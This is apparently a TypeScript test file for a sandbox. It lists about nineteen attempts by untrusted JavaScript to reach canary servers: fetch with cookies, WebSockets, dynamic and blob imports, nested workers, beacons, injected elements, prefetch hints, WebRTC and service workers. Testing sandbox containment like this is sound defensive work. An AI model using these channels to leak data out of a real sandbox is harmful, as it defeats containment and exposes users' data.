import type { AttackClass } from "./attack";
import { heldJs } from "./js-attack";

export const network: AttackClass = {
  name: "network",
  title: "Ways out to the network",
  attacks: [
    heldJs({
      name: "fetch",
      tries: "Asks another server with fetch.",
      control: "worker",
      calls: true,
      source: `
  for (const url of [input.canary.http, input.canary.other, input.canary.named]) {
    await attempt("fetch", () => reach("fetch")(url + "fetch", { mode: "no-cors" }));
    await attempt("fetch that outlives its page", () => reach("fetch")(url + "keepalive", { mode: "no-cors", keepalive: true }));
  }`,
    }),
    heldJs({
      name: "own-site",
      tries: "Asks the city’s own server, with the resident’s cookies.",
      control: "worker",
      calls: true,
      source: `
  for (const path of ["api/health", "api/v1/account", "box"]) {
    await attempt("fetch " + path, () => reach("fetch")(input.canary.http + path, { mode: "no-cors", credentials: "include" }));
    await attempt("import " + path, () => import(input.canary.http + path));
  }`,
    }),
    heldJs({
      name: "xml-http-request",
      tries: "Asks another server the old way.",
      control: "worker",
      calls: true,
      source: `
  await attempt("XMLHttpRequest", () => {
    const Request = reach("XMLHttpRequest");
    const request = new Request();
    request.open("GET", input.canary.http + "xhr", false);
    request.send();
    return true;
  });`,
    }),
    heldJs({
      name: "web-socket",
      tries: "Opens a socket to another server.",
      control: "worker",
      calls: true,
      source: `
  const opened = (Socket) => new Promise((resolve) => {
    const socket = new Socket(input.canary.ws + "socket");
    socket.onopen = () => resolve(true);
    socket.onerror = () => resolve(false);
  });
  await attempt("WebSocket", () => opened(reach("WebSocket")));
  await attempt("WebSocketStream", () => new (reach("WebSocketStream"))(input.canary.ws + "stream").opened);`,
    }),
    heldJs({
      name: "event-source",
      tries: "Listens to events from another server.",
      control: "worker",
      calls: true,
      source: `
  await attempt("EventSource", () => new Promise((resolve) => {
    const source = new (reach("EventSource"))(input.canary.http + "events");
    source.onopen = () => resolve(true);
    source.onerror = () => resolve(false);
  }));`,
    }),
    heldJs({
      name: "import-from-server",
      tries: "Imports a module from another server.",
      control: "worker",
      calls: true,
      source: `
  for (const url of [input.canary.http, input.canary.other, "//127.0.0.1/"]) {
    await attempt("import()", () => import(url + "module.js"));
  }`,
    }),
    heldJs({
      name: "import-data",
      tries: "Imports code from a data: address.",
      control: "worker",
      source: `
  await attempt("data:", () => import("data:text/javascript,export default 1"));
  await attempt("javascript:", () => import("javascript:1"));`,
    }),
    heldJs({
      name: "import-blob",
      tries: "Makes code of its own under a blob: address and imports it.",
      control: "worker",
      calls: true,
      source: `
  await attempt("blob:", async () => {
    const code = "export default await fetch('" + input.canary.http + "blob', { mode: 'no-cors' })";
    const blob = new (reach("Blob"))([code], { type: "text/javascript" });
    return (await import(reach("URL").createObjectURL(blob))).default;
  });`,
    }),
    heldJs({
      name: "import-scripts",
      tries: "Loads a classic script from another server.",
      control: "worker",
      calls: true,
      source: `
  await attempt("importScripts", () => {
    reach("importScripts")(input.canary.http + "script.js");
    return true;
  });`,
    }),
    heldJs({
      name: "nested-worker",
      tries: "Starts a worker of its own that asks another server.",
      control: "worker",
      calls: true,
      source: `
  const code = "fetch('" + input.canary.http + "nested', { mode: 'no-cors' }).then(() => postMessage(1), () => postMessage(0))";
  const address = () => reach("URL").createObjectURL(new (reach("Blob"))([code], { type: "text/javascript" }));
  await attempt("Worker", () => new Promise((resolve) => {
    const worker = new (reach("Worker"))(address());
    worker.onmessage = ({ data }) => resolve(data === 1);
    worker.onerror = () => resolve(false);
  }));
  await attempt("SharedWorker", () => new (reach("SharedWorker"))(address()));
  await attempt("Worker from a server", () => new (reach("Worker"))(input.canary.http + "worker.js"));`,
    }),
    heldJs({
      name: "web-transport",
      tries: "Opens a QUIC connection to another server.",
      control: "worker",
      source: `
  await attempt("WebTransport", () => new (reach("WebTransport"))(input.canary.https + "transport"));`,
    }),
    heldJs({
      name: "font",
      tries: "Loads a font from another server.",
      control: "worker",
      calls: true,
      source: `
  await attempt("FontFace", () => {
    const face = new (reach("FontFace"))("leak", "url(" + input.canary.http + "font.woff2)");
    face.load().catch(() => {});
    return face;
  });`,
    }),
    heldJs({
      name: "streamed-wasm",
      tries: "Compiles WebAssembly that it streams from another server.",
      control: "worker",
      calls: true,
      source: `
  await attempt("compileStreaming", () =>
    WebAssembly.compileStreaming(reach("fetch")(input.canary.http + "empty.wasm", { mode: "cors" })));
  await attempt("Response", () => new (reach("Response"))("made here"));`,
    }),
    heldJs({
      name: "beacon",
      tries: "Sends a last word when nobody waits for an answer.",
      control: "page",
      calls: true,
      source: `
  await attempt("sendBeacon", () => reach("navigator").sendBeacon(input.canary.http + "beacon", "leak"));
  await attempt("fetchLater", () => reach("fetchLater")(input.canary.http + "later", { activateAfter: 0 }));`,
    }),
    heldJs({
      name: "image",
      tries: "Loads a picture from another server.",
      control: "page",
      calls: true,
      source: `
  await attempt("Image", () => Object.assign(new (reach("Image"))(), { src: input.canary.http + "image.png" }));
  await attempt("Audio", () => Object.assign(new (reach("Audio"))(), { src: input.canary.http + "sound.mp3" }));`,
    }),
    heldJs({
      name: "document",
      tries: "Writes elements into a document that load something: styles, frames, links, forms.",
      control: "page",
      calls: true,
      source: `
  await attempt("elements", () => {
    const { document } = { document: reach("document") };
    const url = input.canary.http;
    const place = document.createElement("div");
    place.innerHTML =
      '<link rel="stylesheet" href="' + url + 'style.css"><iframe src="' + url + 'frame"></iframe><object data="' + url +
      'object"></object><embed src="' + url + 'embed"><video poster="' + url + 'poster.png"></video>';
    document.body.append(place);
    return place;
  });
  await attempt("style sheet", () => {
    const sheet = new (reach("CSSStyleSheet"))();
    sheet.replaceSync("@font-face { font-family: leak; src: url(" + input.canary.http + "css-font.woff2) }");
    reach("document").adoptedStyleSheets = [sheet];
    return sheet;
  });`,
    }),
    heldJs({
      name: "hints",
      tries: "Leaks by name look-ups and connections made in advance.",
      control: "page",
      calls: true,
      source: `
  await attempt("hints", () => {
    const document = reach("document");
    for (const rel of ["dns-prefetch", "preconnect", "prefetch", "modulepreload"]) {
      const link = document.createElement("link");
      Object.assign(link, { rel, href: input.canary.http + rel, crossOrigin: "anonymous" });
      document.head.append(link);
    }
    return true;
  });`,
    }),
    heldJs({
      name: "web-rtc",
      tries: "Opens a peer connection past the network rules.",
      control: "page",
      calls: true,
      source: `
  await attempt("RTCPeerConnection", async () => {
    const connection = new (reach("RTCPeerConnection"))({ iceServers: [{ urls: input.canary.stun }] });
    connection.createDataChannel("leak");
    await connection.setLocalDescription(await connection.createOffer());
    return connection;
  });`,
    }),
    heldJs({
      name: "service-worker",
      tries: "Installs a service worker that would answer for the site.",
      control: "page",
      source: `
  await attempt("serviceWorker", () => reach("navigator").serviceWorker.register("/service-worker.js"));`,
    }),
  ],
};
